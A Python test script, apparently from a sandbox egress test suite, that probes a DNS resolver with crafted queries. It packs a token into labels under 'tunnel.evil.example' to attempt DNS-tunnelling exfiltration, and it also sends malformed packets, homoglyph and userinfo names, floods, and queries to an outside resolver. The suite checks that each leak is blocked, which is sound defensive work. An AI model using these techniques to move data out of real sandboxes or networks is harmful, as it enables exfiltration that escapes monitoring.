#!/usr/bin/env python3
"""Attempts by questions to the resolver: what leaves in a name, and what an answer may lead to. See common.py."""
import socket

from common import ALLOWED, connect, main, request, talk

RESOLVER = "100.127.255.53"
A, TXT, AAAA, SVCB, HTTPS, ANY, NULL = 1, 16, 28, 64, 65, 255, 10
NXDOMAIN, REFUSED = 3, 5


def question(labels, kind=A, flags=0x0100, count=1, tail=b""):
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    whole = b"\x12\x34" + flags.to_bytes(2, "big") + count.to_bytes(2, "big") + bytes(6)
    return whole + (name + kind.to_bytes(2, "big") + b"\0\1") * count + tail


def ask(message):
    """The reply's code and its answers; None where nobody answers."""
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.settimeout(0.5)
    asker.sendto(message, (RESOLVER, 53))
    try:
        reply = asker.recv(2048)
        return reply[3] & 15, int.from_bytes(reply[6:8], "big")
    except socket.timeout:
        return None


def expect(wanted, *messages):
    """An attempt that succeeds with any other reply."""
    replies = [ask(message) for message in messages]
    return b"" if all(reply == wanted for reply in replies) else repr(replies).encode()


def labels(token):
    """Data in the labels of a denied name: answered by us, and asked of nobody."""
    for part in range(50):
        expect((0, 1), question([b"%d-%s" % (part, token), b"tunnel", b"evil", b"example"]))


def kinds(token):
    name = [token, b"evil", b"example"]
    return expect((0, 0), *[question(name, kind) for kind in (TXT, AAAA, SVCB, HTTPS, ANY, NULL)])


def stream(token):
    """The same over TCP."""
    message = question([token, b"evil", b"example"])
    reply = talk(connect(RESOLVER, 53), len(message).to_bytes(2, "big") + message)
    return b"" if reply[5] & 15 == 0 and reply[-4:-2] == b"\xc6\x12" else reply


def wildcard(token):
    """Names under an allowed wildcard are resolved when dialled: a label is a message to whoever answers for them."""
    for part in range(8):
        text = f"{part}-{token.decode()}.wild.example"
        talk(connect(text, 80), request(text, b"path"))


def flood(token):
    """More names than a sandbox may ask for: the rest is refused, not answered with somebody else's address."""
    replies = [ask(question([b"n%d" % part, token, b"example"])) for part in range(1100)]
    return b"" if (REFUSED, 0) in replies and ask(question(ALLOWED.encode().split(b"."))) == (0, 1) else b"no limit"


main({
    "labels": labels,
    "kinds": kinds,
    "stream": stream,
    "wildcard": wildcard,
    "flood": flood,
    "nul": lambda token: expect((NXDOMAIN, 0), question([b"mirror", b"example\0", token, b"example"])),
    "dot": lambda token: expect((1, 0), question([b"mirror.example", token])),
    "unicode": lambda token: expect((NXDOMAIN, 0), question(["mirr\u043er".encode(), token, b"example"])),
    "userinfo": lambda token: expect((NXDOMAIN, 0), question([b"mirror@" + token, b"example"])),
    "root": lambda token: expect((NXDOMAIN, 0), question([])),
    "pointer": lambda token: expect((1, 0), b"\x12\x34\1\0\0\1" + bytes(6) + b"\xc0\x0c\0\1\0\1" + token),
    "two-questions": lambda token: expect((1, 0), question([token, b"example"], count=2)),
    "other-class": lambda token: expect((NXDOMAIN, 0), question([token, b"example"])[:-1] + b"\3"),
    "reply-as-question": lambda token: expect(None, question([token, b"example"], flags=0x8180)),
    "long": lambda token: expect((0, 1), question([token, b"example"], tail=b"x" * 3000)),
    "other-resolver": lambda token: b"" if talk(connect("198.51.100.53", 53), question([token])) == b"" else b"asked",
})
